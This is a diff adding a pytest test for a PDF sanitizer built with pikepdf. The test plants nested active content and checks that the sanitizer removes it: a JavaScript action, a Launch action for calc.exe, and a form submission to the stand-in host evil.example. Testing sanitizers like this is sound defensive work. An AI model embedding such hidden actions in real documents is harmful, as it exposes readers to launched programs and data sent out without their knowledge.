@@ -125,3 +125,19 @@ def test_an_action_where_no_viewer_looks_for_one_is_removed_too(tmp_path):
     assert remove_active_content(pdf) == "1 Launch action"
     cleaned = saved_and_reopened(pdf)
     assert "/Extra" not in cleaned.pages[0].obj and cleaned.pages[0].obj.Element.S == Name.Sound
+
+
+def test_active_content_is_found_however_deep_in_arrays_and_stream_dictionaries_it_is():
+    pdf = pikepdf.new()
+    pdf.add_blank_page()
+    script = Dictionary(A=Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
+    launch = Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]),
+                        Next=Dictionary(S=Name.Launch, F=String("calc.exe")))
+    stream = pdf.make_stream(b"", Extra=Array([1, Name.X, String("x"), Array([2.5, Array([script])])]))
+    pdf.pages[0].obj.Deep = Array([None, stream, Array([launch])])
+    # Some viewers read a stream's dictionary like any other: as an action, in a key none reads.
+    pdf.pages[0].obj.Odd = pdf.make_stream(b"", S=Name.SubmitForm, F=String("https://evil.example/"))
+    assert remove_active_content(pdf) == "1 JavaScript action, 1 Launch action and 1 form submission"
+    cleaned = saved_and_reopened(pdf)
+    assert forbidden_names(cleaned) == set() and "/Odd" not in cleaned.pages[0].obj
+    assert [str(item.S) for item in cleaned.pages[0].obj.Deep[2]] == ["/GoTo"]
